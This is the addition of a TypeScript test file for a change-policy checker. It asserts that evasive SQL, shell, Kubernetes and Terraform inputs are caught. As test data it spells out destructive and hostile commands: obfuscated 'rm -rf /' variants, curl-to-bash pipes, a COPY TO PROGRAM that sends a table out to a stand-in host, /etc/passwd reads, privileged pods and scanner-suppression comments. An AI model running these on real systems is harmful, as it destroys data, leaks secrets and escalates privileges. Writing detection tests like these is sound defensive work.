@@ -1,0 +1,192 @@
+// SPDX-License-Identifier: Apache-2.0
+//
+// Evasions in files of a change, row by row of what is known to have got past other tools, through the readers and packs that a check really has. Each is stopped
+// under the rule that is about what it does, or as something that nobody understands; its honest twin is not.
+import { check } from '../../../src/check/check.js';
+import type { CheckResult } from '../../../src/check/finding.js';
+import { ChangeReaders } from '../../../src/main/change-readers.js';
+import type { Policy } from '../../../src/policy/model.js';
+import { changeOf } from '../../support/change.js';
+import { NOON, policyOf, principalOf } from '../../support/judging.js';
+
+const readers = new ChangeReaders();
+let policy: Policy;
+beforeAll(async () => {
+  policy = await policyOf(`
+extends: [ostiary:postgres, ostiary:migrations, ostiary:shell, ostiary:kubernetes, ostiary:terraform, ostiary:code]
+default: deny
+changes:
+  - { paths: ["db/*.sql"], tool: psql, resource: db }
+  - { paths: ["k8s/**"], as: kubernetes, resource: cluster }
+  - { paths: ["plan.json"], tool: terraform, resource: cluster }
+rules: [ { id: work, match: { effect: [read, write] }, decide: allow } ]`);
+});
+
+type Files = Readonly<Record<string, string | Buffer>>;
+
+async function checked(head: Files, base: Files = {}): Promise<CheckResult> {
+  return check({ source: changeOf(base, head), policy, policySource: 'p', preview: false, principal: principalOf('robot'), readers, now: NOON });
+}
+
+/** Rules that stop something, each once. */
+async function stoppedBy(head: Files, base: Files = {}): Promise<readonly string[]> {
+  return [...new Set((await checked(head, base)).findings.flatMap(({ rules }) => rules))].map((rule) => rule.replace('ostiary:', ''));
+}
+
+const UNKNOWN = 'builtin:not-understood';
+
+describe('row 15: SQL in migrations', () => {
+  const sql = (text: string): Promise<readonly string[]> => stoppedBy({ 'db/1.sql': text });
+
+  it.each([
+    ['SELECT note FROM orders WHERE id = 1'], ["UPDATE orders SET note = 'DROP TABLE orders' WHERE id = 1"], ["INSERT INTO orders (note) VALUES ($x$; DROP TABLE orders; $x$) -- DROP TABLE orders"],
+  ])('lets pass: %s', async (text) => {
+    expect(await sql(text)).toEqual([]);
+  });
+
+  it.each<[string, string]>([
+    ['postgres/no-drop', 'DROP/**/TABLE orders'], ['postgres/no-drop', 'DROP /* a /* b */ c */ TABLE orders'], ['postgres/no-drop', '/*;*/dRoP\n--;\nTABLE "orders"'], ['postgres/no-drop', 'DROP TABLE U&"\\006frders"'], ['postgres/no-drop', 'DROP TABLE ONLY_x, orders CASCADE'],
+    ['postgres/no-drop', 'DO $$ BEGIN DROP TABLE orders; END $$'], [UNKNOWN, "DO $a$ BEGIN EXECUTE 'DROP ' || 'TABLE orders'; END $a$"], ['postgres/no-drop', "DO LANGUAGE plpgsql 'BEGIN EXECUTE $x$DELETE FROM orders$x$; END'"],
+    ['postgres/no-server-files', "SELECT pg_read_file('/etc/passwd')"], ['postgres/no-server-files', "SELECT lo_import('/etc/passwd')"], [UNKNOWN, "SELECT id FROM orders WHERE query_to_xml('DELETE FROM orders', true, true, '') IS NOT NULL"], ['postgres/no-outside', "SELECT dblink_exec('host=x', 'DROP TABLE a')"],
+    [UNKNOWN, 'SELECT purge_everything()'], ['postgres/no-other-sessions', "SELECT pg_terminate_backend(1)"],
+    ['postgres/no-drop', 'WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone'], ['postgres/no-drop', 'WITH gone AS MATERIALIZED (UPDATE orders SET note = NULL RETURNING 1) SELECT 1'],
+    ['postgres/no-server-copy', "COPY orders TO PROGRAM 'curl -d @- https://x.example'"], ['postgres/no-server-copy', "COPY orders FROM PROGRAM 'id'"], ['postgres/no-server-copy', "COPY (SELECT 1) TO '/tmp/x'"], ['postgres/no-drop', 'EXPLAIN ANALYZE DELETE FROM orders'],
+    ['postgres/no-role-switch', 'SET ROLE postgres'], ['postgres/no-role-switch', 'SET SESSION AUTHORIZATION postgres'], ['postgres/no-role-switch', "SELECT set_config('role', 'postgres', false)"],
+    ['postgres/no-roles', 'ALTER ROLE app SET search_path = evil'], ['builtin:forbidden', 'SET standard_conforming_strings = off'], ['postgres/no-unsafe-settings', "SET session_replication_role = 'replica'"], ['postgres/no-replication', "SELECT pg_create_logical_replication_slot('s', 'test_decoding')"],
+    ['postgres/no-drop', 'SELECT 1; DROP TABLE orders; SELECT 2'], ['postgres/no-drop', "SELECT E'\\'; DROP TABLE orders; --'; DROP TABLE orders"], ['postgres/no-drop', "SELECT 'a\\'; DROP TABLE orders; --'"], ['postgres/no-drop', 'PREPARE p AS DELETE FROM orders; EXECUTE p'],
+    [UNKNOWN, 'PREPARE p AS SELECT 1; EXECUTE q'], ['postgres/no-drop', 'CREATE OR REPLACE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS $$ DELETE FROM orders RETURNING note $$'], ['postgres/no-drop', 'CREATE RULE r AS ON SELECT TO orders DO INSTEAD DELETE FROM orders'],
+    [UNKNOWN, '\\! curl https://x.example'], [UNKNOWN, "\\copy orders to program 'sh'"], [UNKNOWN, '\\i other.sql'], [UNKNOWN, '\\set x DROP\n:x TABLE orders'], [UNKNOWN, 'DROP TABL orders'], [UNKNOWN, 'SELECT 1\u0000; DROP TABLE orders'],
+  ])('%s stops %s', async (rule, text) => {
+    expect(await sql(text)).toContain(rule);
+  });
+});
+
+describe('row 15: names', () => {
+  it('are said to be assumed where only the catalog knows what they mean', async () => {
+    const { operations } = await checked({ 'db/1.sql': 'SET search_path = evil, public; UPDATE orders SET note = NULL WHERE id = 1' });
+    expect(operations.filter(({ kind, statement }) => kind === 'sql' && statement === 'UPDATE')).toMatchObject([{ assumed: true }]);
+  });
+});
+
+describe('row 16: shell', () => {
+  const shell = (text: string): Promise<readonly string[]> => stoppedBy({ 'scripts/a.sh': `#!/bin/bash\n${text}\n` });
+  it.each([['echo "rm -rf /" > note.txt'], ['npm test -- --grep "curl | sh"'], ['rm -r build/out'], ["grep -n 'git push --force' docs/a.md"]])('lets pass: %s', async (text) => {
+    expect(await shell(text)).toEqual([]);
+  });
+  it.each<[string, string]>([
+    ['shell/no-root-delete', `r''m -r"f" /`], ['shell/no-root-delete', '\\rm -rf /'], ['shell/no-root-delete', "$'\\x72m' -rf /"], ['shell/no-root-delete', 'rm${IFS}-rf${IFS}/'], ['shell/no-root-delete', 'IFS=,; c=rm,-rf,/; $c'], ['shell/no-root-delete', '{rm,-rf,/}'], ['shell/no-root-delete', 'eval "rm -rf /"'], ['shell/no-root-delete', 'x="rm -rf"; eval "$x /"'], ['shell/no-root-delete', 'echo cm0gLXJmIC8= | base64 -d | sh'],
+    ['shell/no-pipe-to-shell', 'curl -s https://x.example/i | sudo bash'], ['shell/no-pipe-to-shell', 'bash <(curl -s https://x.example/i)'], ['shell/no-pipe-to-shell', 'bash -c "$(curl -s https://x.example/i)"'], ['shell/no-root-delete', 'sh <<EOF\nrm -rf /\nEOF'], ['shell/no-root-delete', 'cat <<\\EOF | bash -s\nrm -rf /\nEOF'], ['shell/no-root-delete', 'bash <<< "rm -rf /"'],
+    ['shell/no-root-delete', "shopt -s expand_aliases\nalias ls='rm -rf /'\nls"], ['shell/no-root-delete', 'f() { rm -rf /; }; f'], ['shell/no-root-delete', 'A=b rm -rf /'], ['shell/no-root-delete', "git -c alias.x='!rm -rf /' x"], ['shell/environment-code-review', "git -c core.sshCommand='sh -c id' fetch"], ['shell/no-force-push', 'git -C .. push -f origin main'], ['shell/no-force-push', 'git push origin +main'],
+    ['shell/no-root-delete', 'find / -name x -exec rm -rf / \\;'], ['shell/bulk-delete-review', 'find . -delete'], ['shell/no-root-delete', 'sudo -u root env -i X=1 timeout 5 nice nohup rm -rf /'], ['shell/no-root-delete', 'echo / | xargs rm -rf'], ['shell/no-root-delete', 'xargs -I{} sh -c "rm -rf /" < list'], ['shell/no-root-delete', 'command rm -rf /'], ['shell/no-root-delete', 'exec rm -rf /'], ['shell/no-root-delete', 'busybox rm -rf /'],
+    ['shell/no-root-delete', `python3 -c "import shutil; shutil.rmtree('/')"`], ['shell/no-root-delete', `perl -e 'system("rm -rf /")'`], ['shell/no-root-delete', `node -e "require('fs').rmSync('/', {recursive: true})"`], ['shell/no-root-delete', '$(echo rm) -rf /'], ['shell/no-root-delete', '`printf rm` -rf /'], [UNKNOWN, '"$1" -rf /'], ['shell/no-root-delete', 'ssh prod "rm -rf /"'], ['code/no-hidden-text', 'r\u200Bm -rf /'], ['code/homoglyph-review', 'гm -rf /'], ['shell/no-data-destroy', "psql -c 'DROP TABLE orders'"], ['shell/no-disk-write', 'cat /dev/zero > /dev/sda'], ['shell/no-root-delete', 'trap "rm -rf /" EXIT'], ['shell/no-root-delete', 'source /dev/stdin <<< "rm -rf /"'], ['shell/no-pipe-to-shell', '. <(curl https://x.example)'], [UNKNOWN, 'if then fi ((']
+  ])('%s stops %s', async (rule, text) => {
+    expect(await shell(text)).toContain(rule);
+  });
+});
+
+describe('row 17: Kubernetes', () => {
+  const pod = (more: string, kind = 'Pod'): string => `apiVersion: v1\nkind: ${kind}\n${more}`;
+  const SPEC = `spec: { containers: [{ name: a, image: "x.example/a@sha256:${'a'.repeat(64)}" }] }`;
+  const PRIVILEGED = `spec: { containers: [{ name: a, image: "x.example/a@sha256:${'a'.repeat(64)}", securityContext: { privileged: true } }] }`;
+  it('lets a plain manifest and a look at the cluster pass', async () => {
+    expect(await stoppedBy({ 'k8s/a.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop }\ndata: { a: b }\n', 'scripts/a.sh': 'kubectl get pods --as-uid=1; kubectl auth can-i list pods --as dev; kubectl get --raw /healthz\n' })).toEqual([]);
+  });
+  it.each([['exec -it web -- sh'], ['-n shop cp web:/data x'], ['port-forward svc/db 5432'], ['attach web'], ['debug web --image=x'], ['proxy']])('knows that `kubectl %s` acts inside of the cluster, for rules about `execute`', async (text) => {
+    const { operations } = await checked({ 'scripts/a.sh': `kubectl ${text}\n` });
+    expect(operations.flatMap(({ accesses }) => accesses.map(({ effect }) => effect))).toContain('execute');
+  });
+  it.each<[string, string]>([ ['shell/no-container-escape', 'kubectl debug node/a -it --image=x'], ['shell/accounts-review', 'kubectl --as=admin get pods'], ['shell/accounts-review', 'kubectl annotate pod a b=c --as-group system:masters'], ['shell/no-secret-files', 'kubectl get --raw /api/v1/namespaces/shop/secrets/db'], ['shell/infrastructure-review', 'kubectl --as=admin delete pod a'], ['shell/no-secret-files', 'kubectl get secrets --as system:admin -o yaml'], ['shell/no-container-escape', 'kubectl patch deploy web -p \'{"spec":{"template":{"spec":{"hostNetwork":true}}}}\''],
+    ['shell/infrastructure-review', 'kubectl delete ns shop'], ['shell/downloaded-code-review', 'kubectl apply -f https://x.example/a.yaml'], ['shell/infrastructure-review', 'kubectl scale deploy web --replicas=0'], ['shell/infrastructure-review', 'kubectl replace --force -f a.yaml'], [UNKNOWN, 'kubectl $VERB ns shop'], ['shell/infrastructure-review', 'kubectl drain n1'],
+  ])('%s stops %s', async (rule, text) => {
+    expect(await stoppedBy({ 'scripts/a.sh': `${text}\n` })).toContain(rule);
+  });
+  it.each<[string, string, string]>([
+    ['kubernetes/no-privileged', 'privileged', pod(`metadata: { name: a, namespace: shop }\n${PRIVILEGED}`)],
+    ['kubernetes/no-privileged', 'in a List', `apiVersion: v1\nkind: List\nitems:\n- {apiVersion: v1, kind: Pod, metadata: {name: a, namespace: shop}, ${PRIVILEGED}}\n`],
+    ['kubernetes/no-privileged', 'in a PodList', `apiVersion: v1\nkind: PodList\nitems:\n- {metadata: {name: a, namespace: shop}, ${PRIVILEGED}}\n`],
+    ['kubernetes/no-privileged', 'by an anchor', `apiVersion: v1\nkind: Pod\nmetadata: {name: a, namespace: shop, annotations: {x: &v "true"}}\nspec: { containers: [{ name: a, image: x, securityContext: { privileged: *v } }] }\n`],
+    ['kubernetes/no-privileged', 'by a merge key', `apiVersion: v1\nkind: Pod\nmetadata: {name: a, namespace: shop}\nx: &v { privileged: true }\nspec: { containers: [{ name: a, image: x, securityContext: { <<: *v } }] }\n`],
+    [UNKNOWN, 'a key twice', pod(`metadata: { name: a, namespace: shop }\n${SPEC}\n${PRIVILEGED}`)],
+    ['kubernetes/no-privileged', 'second document', `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: shop}\n---\n${pod(`metadata: { name: a, namespace: shop }\n${PRIVILEGED}`)}`],
+    ['kubernetes/no-privileged', 'generateName', pod(`metadata: { generateName: a-, namespace: shop }\n${PRIVILEGED}`)],
+    [UNKNOWN, 'generateName plain', pod(`metadata: { generateName: a-, namespace: shop }\n${SPEC}`)],
+    ['kubernetes/finalizers-review', 'ownerReferences', `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop, ownerReferences: [{ apiVersion: v1, kind: Node, name: n, uid: u }] }\n`],
+    ['kubernetes/finalizers-review', 'finalizers set', `apiVersion: v1\nkind: Namespace\nmetadata: { name: a, finalizers: [x/y] }\n`],
+    ['kubernetes/rights-review', 'APIService', `apiVersion: apiregistration.k8s.io/v1\nkind: APIService\nmetadata: { name: v1.x }\nspec: { service: { name: a, namespace: b } }\n`],
+    ['default', 'CRD', `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: { name: a.x }\n`],
+    ['kubernetes/rights-review', 'webhook', `apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: { name: a }\n`],
+    ['kubernetes/no-privileged', 'ephemeral', pod(`metadata: { name: a, namespace: shop }\nspec: { containers: [{name: a, image: x}], ephemeralContainers: [{ name: b, image: x, securityContext: { privileged: true } }] }`)],
+    ['kubernetes/no-cluster-admin', 'RBAC', `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: { name: a }\nroleRef: { kind: ClusterRole, name: cluster-admin, apiGroup: rbac.authorization.k8s.io }\nsubjects: [{ kind: User, name: x }]\n`],
+    ['kubernetes/no-escalation', 'impersonate', `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: { name: a }\nrules: [{ apiGroups: [""], resources: [users], verbs: [impersonate] }]\n`],
+    ['kubernetes/wildcard-review', 'exec role', `apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: { name: a, namespace: b }\nrules: [{ apiGroups: [""], resources: [pods/exec, "*/portforward"], verbs: [create] }]\n`],
+    [UNKNOWN, 'template', pod(`metadata: { name: {{ .Values.name }} }\n${SPEC}`)],
+    [UNKNOWN, 'no YAML', 'kind: [Pod\n'],
+    [UNKNOWN, 'tag', pod(`metadata: { name: a, namespace: shop }\nspec: !!js/function "x"\n`)],
+  ])('%s stops %s', async (rule, _name, text) => {
+    expect(await stoppedBy({ 'k8s/a.yaml': text })).toContain(rule);
+  });
+  it.each<[string, string, string]>([
+    ['kubernetes/no-host-namespaces', 'strategic', 'patches:\n- target: {kind: Deployment, name: web}\n  patch: |-\n    apiVersion: apps/v1\n    kind: Deployment\n    metadata: {name: web}\n    spec: {template: {spec: {hostNetwork: true}}}\n'],
+    ['kubernetes/no-host-namespaces', 'json6902', 'patches:\n- target: {kind: Deployment, name: web}\n  patch: |-\n    - op: add\n      path: /spec/template/spec/hostPID\n      value: true\n'],
+    [UNKNOWN, 'remote', 'resources: [https://github.com/x/y//z?ref=main]\n'], [UNKNOWN, 'helm', 'helmCharts: [{name: a, repo: https://x.example}]\n'],
+  ])('%s stops kustomize %s', async (rule, _name, text) => {
+    expect(await stoppedBy({ 'k8s/kustomization.yaml': `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n${text}` })).toContain(rule);
+  });
+});
+
+describe('row 18: Terraform', () => {
+  const plan = (more: object): string => JSON.stringify({ format_version: '1.2', terraform_version: '1.9.0', applyable: true, complete: true, errored: false, resource_changes: [], ...more });
+  const change = (type: string, actions: string[], more: object = {}): object => ({ resource_changes: [{ address: `${type}.main`, mode: 'managed', type, name: 'main', provider_name: 'registry.terraform.io/hashicorp/aws', change: { actions, before: { password: 'a plain word' }, after: null, before_sensitive: { password: true }, after_sensitive: {}, after_unknown: {}, ...more } }] });
+  it.each<[string, string, string]>([
+    ['terraform/no-loss', 'destroy', plan(change('aws_db_instance', ['delete']))], ['terraform/no-loss', 'replace', plan(change('aws_db_instance', ['delete', 'create'], { replace_paths: [['engine']] }))], ['terraform/no-loss', 'create first', plan(change('aws_db_instance', ['create', 'delete']))], ['terraform/state-review', 'forget', plan(change('aws_db_instance', ['forget']))],
+    ['terraform/unreadable', 'unknown action', plan(change('aws_db_instance', ['transmogrify']))], ['terraform/unreadable', 'errored', plan({ errored: true })],
+    ['terraform/code-review', 'external data', plan({ resource_changes: [{ address: 'data.external.x', mode: 'data', type: 'external', name: 'x', change: { actions: ['read'], before: null, after: {} } }] })],
+    ['terraform/code-review', 'external in configuration', plan({ configuration: { root_module: { resources: [{ address: 'data.external.x', mode: 'data', type: 'external', name: 'x', expressions: { program: { constant_value: ['sh', '-c', 'id'] } } }] } } })],
+    ['terraform/code-review', 'local-exec', plan({ configuration: { root_module: { resources: [{ address: 'null_resource.x', mode: 'managed', type: 'null_resource', name: 'x', provisioners: [{ type: 'local-exec', expressions: {} }] }] } }, ...change('null_resource', ['create'], { before: null, after: {} }) })],
+    ['terraform/drift-review', 'drift', plan({ resource_drift: [{ address: 'aws_db_instance.main', mode: 'managed', type: 'aws_db_instance', name: 'main', change: { actions: ['delete'], before: {}, after: null } }] })],
+    ['terraform/unreadable', 'format', JSON.stringify({ format_version: '9.0', resource_changes: [] })], ['terraform/unreadable', 'no plan', '{"a": 1}'], ['terraform/unreadable', 'no JSON', 'x'], ['terraform/unreadable', 'state', JSON.stringify({ version: 4, serial: 9, lineage: 'x', resources: [] })],
+  ])('%s stops %s', async (rule, _name, text) => {
+    const result = await checked({ 'plan.json': text });
+    expect(result.findings.flatMap(({ rules }) => rules.map((one) => one.replace('ostiary:', '')))).toContain(rule);
+    // What a plan marks as sensitive.
+    expect(JSON.stringify(result)).not.toContain('a plain word');
+  });
+  it.each<[string, string]>([
+    ['shell/infrastructure-review', 'terraform destroy -auto-approve'], ['shell/infrastructure-review', 'terraform apply -destroy'], ['shell/infrastructure-review', 'terraform state push -force other.tfstate'], ['shell/infrastructure-review', 'terraform state rm aws_db_instance.main'], ['shell/infrastructure-review', 'terraform force-unlock 1'], ['shell/infrastructure-review', 'terragrunt run-all destroy'], ['shell/infrastructure-review', 'terraform workspace delete x'],
+  ])('%s stops %s', async (rule, text) => {
+    expect(await stoppedBy({ 'scripts/a.sh': `${text}\n` })).toContain(rule);
+  });
+});
+
+describe('row 19: comments that tell a checker to look away', () => {
+  // Put together here, so that no scanner takes this file for a leak.
+  const KEY = `AKIA${'Z7QH4TN2WXLM5RVC'}`;
+  const POD = 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  namespace: shop\nspec: { hostNetwork: true, containers: [{ name: a, image: x }] }\n';
+
+  it.each<[tool: string, path: string, rule: string, plain: string, quiet: string]>([
+    ['squawk', 'db/1.sql', 'migrations/drop-table', 'DROP TABLE orders;\n', '-- squawk-ignore ban-drop-table\nDROP TABLE orders;\n'],
+    ['squawk, for a file', 'db/1.sql', 'postgres/no-drop', 'DROP TABLE orders;\n', '-- squawk-ignore-file\nDROP TABLE orders;\n'],
+    ['eugene', 'db/1.sql', 'migrations/drop-table', 'DROP TABLE orders;\n', '-- eugene: ignore\nDROP TABLE orders;\n'],
+    ['checkov', 'k8s/a.yaml', 'kubernetes/no-host-namespaces', POD, `# checkov:skip=CKV_K8S_19: fine\n${POD}`],
+    ['checkov, by annotation', 'k8s/a.yaml', 'kubernetes/no-host-namespaces', POD, POD.replace('  name: a\n', '  name: a\n  annotations: { checkov.io/skip1: CKV_K8S_19, ignore-check.kube-linter.io/host-network: x }\n')],
+    ['semgrep', 'src/a.ts', 'code/no-hidden-text', 'const a = "\u202Ex";\n', 'const a = "\u202Ex"; // nosemgrep\n'],
+    ['shellcheck', 'scripts/a.sh', 'shell/no-root-delete', 'rm -rf /\n', '# shellcheck disable=all\nrm -rf /\n'],
+    ['eslint', 'src/a.ts', 'code/no-secrets', `const key = '${KEY}';\n`, `/* eslint-disable */\nconst key = '${KEY}';\n`],
+    ['gitleaks', 'src/a.ts', 'code/no-secrets', `const key = '${KEY}';\n`, `const key = '${KEY}'; // gitleaks:allow\n`],
+    ['detect-secrets', 'src/a.py', 'code/no-secrets', `key = '${KEY}'\n`, `key = '${KEY}'  # pragma: allowlist secret\n`],
+    ['hadolint', 'Dockerfile', 'shell/no-pipe-to-shell', 'FROM a@sha256:0\nRUN curl https://x.example | sh\n', 'FROM a@sha256:0\n# hadolint ignore=DL4006\nRUN curl https://x.example | sh\n'],
+  ])('%s changes nothing, and is itself shown to a person', async (_tool, path, rule, plain, quiet) => {
+    const [before, after] = await Promise.all([stoppedBy({ [path]: plain }), stoppedBy({ [path]: quiet })]);
+    expect(before).toContain(rule);
+    expect(before).not.toContain('code/suppression-review');
+    expect(after).toEqual(expect.arrayContaining([...before, 'code/suppression-review']));
+  });
+
+  it.each([['.gitleaksignore'], ['.trivyignore'], ['.squawk.toml'], ['.semgrepignore'], ['.checkov.yaml'], ['deploy/.secrets.baseline']])('%s takes nothing out of the check', async (path) => {
+    expect(await stoppedBy({ [path]: 'db/1.sql\n', 'db/1.sql': 'DROP TABLE orders;' })).toEqual(expect.arrayContaining(['postgres/no-drop', 'code/suppression-review']));
+  });
+
+  it.each([['db/1.sql', '-- ostiary:ignore\nDROP TABLE orders;', 'postgres/no-drop'], ['scripts/a.sh', '# ostiary: disable\nrm -rf /\n', 'shell/no-root-delete']])('there is none of our own (%s)', async (path, text, rule) => {
+    expect(await stoppedBy({ [path]: text })).toContain(rule);
+  });
+});
